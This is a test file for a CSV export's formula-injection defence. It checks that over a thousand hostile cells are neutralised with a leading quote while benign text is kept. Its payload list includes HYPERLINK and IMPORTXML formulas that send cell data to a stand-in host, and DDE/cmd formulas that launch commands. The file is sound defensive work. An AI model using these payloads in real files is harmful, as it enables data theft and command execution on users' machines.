import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_EOL, csvRecord, formulaSafe, isFormulaLike } from './csv';

// Issue #11: one formula-safety rule for every CSV the product writes (OWASP "CSV injection"). A corpus of
// hostile cells is written through csvRecord and read back with papaparse: every cell's text is kept, and
// every cell a spreadsheet could evaluate carries the leading quote that makes it text.

const TRIGGERS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\uFE62', '\uFE63', '\u2212'];
const LEADS = ['', ' ', '  ', '\u00A0', '\u3000', '\u2003', '\uFEFF', '\n', '\r\n', '\t', '"', '""', "'", ' "', '\u201C', '\u00A0"'];
const PAYLOADS = [
  'HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  'cmd|\' /C calc\'!A0',
  'SUM(1+1)*cmd|\' /C calc\'!A0',
  '1+1',
  '2+3',
  'IMPORTXML(CONCAT("http://evil.test/?v=",B2),"//a")',
  'DDE("cmd";"/C calc";"!A0")A0',
];

/** Leads × triggers × payloads: 16 × 11 × 7 = 1,232 hostile cells, plus tab- and CR-led ones. */
const HOSTILE = [
  ...LEADS.flatMap((lead) => TRIGGERS.flatMap((trigger) => PAYLOADS.map((payload) => `${lead}${trigger}${payload}`))),
  '\t=1+1',
  '\r=1+1',
  '\tplain after a tab',
  '\rplain after a carriage return',
];

/** Whether a spreadsheet would evaluate a cell as read: formula-like and not led by the text marker '. */
const evaluates = (cell: string) => !cell.startsWith("'") && isFormulaLike(cell);

/** Text a spreadsheet shows as it is: kept untouched. */
const BENIGN = ['e-mail', '3-pack', 'Drill 18V - cordless', 'a=b', 'x+y', 'user@example.com', '"quoted" name', "it's", '', ' ', 'Ünïcödé 🔧', 'line one\nline two'];

/** Writes the cells as a CSV (each on a row with a marker column) and reads it back with papaparse. */
function roundTrip(cells: readonly string[]): string[] {
  // Behind a header, as in every export (papaparse would drop a BOM that opens the text).
  const csv = csvRecord(['cell', 'row']) + cells.map((cell, i) => csvRecord([cell, i])).join('');
  const parsed = Papa.parse<string[]>(csv, { delimiter: ',', newline: CSV_EOL });
  expect(parsed.errors).toEqual([]);
  const rows = parsed.data.slice(1).filter((row) => row.length === 2);
  expect(rows.map((row) => Number(row[1]))).toEqual(cells.map((_, i) => i));
  return rows.map((row) => row[0]!);
}

describe('formula safety of every CSV cell', () => {
  it(`neutralises all ${HOSTILE.length} hostile cells of the corpus and keeps their text`, () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(150);
    const read = roundTrip(HOSTILE);
    expect(read).toHaveLength(HOSTILE.length);
    read.forEach((cell, i) => {
      expect(cell).toBe(`'${HOSTILE[i]}`);
      expect(evaluates(cell)).toBe(false);
    });
  });

  it('leaves benign text untouched', () => {
    expect(roundTrip(BENIGN)).toEqual(BENIGN);
  });

  it('catches the probe misses: a formula after a quote, a space, a no-break space or a line feed, and the full-width forms', () => {
    for (const cell of ['"=1+1', ' =1+1', '\u00A0=1+1', '\n=1+1', '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(A1)']) {
      expect(formulaSafe(cell)).toBe(`'${cell}`);
    }
  });

  it('writes numbers from numeric data as numbers, a negative one included', () => {
    expect(csvRecord([-5, 2.5, 'text'])).toBe(`-5,2.5,text${CSV_EOL}`);
  });

  it('for any text: the round trip keeps it, and what is read back never evaluates', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 20 }),
      fc.tuple(fc.constantFrom(...LEADS), fc.constantFrom(...TRIGGERS, 'a', '1'), fc.string({ maxLength: 10 })).map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (cell) => {
        const [read] = roundTrip([cell]);
        expect(read).toBe(isFormulaLike(cell) ? `'${cell}` : cell);
        expect(evaluates(read!)).toBe(false);
      }),
      { numRuns: 2_000, seed: 20261125 },
    );
  });
});
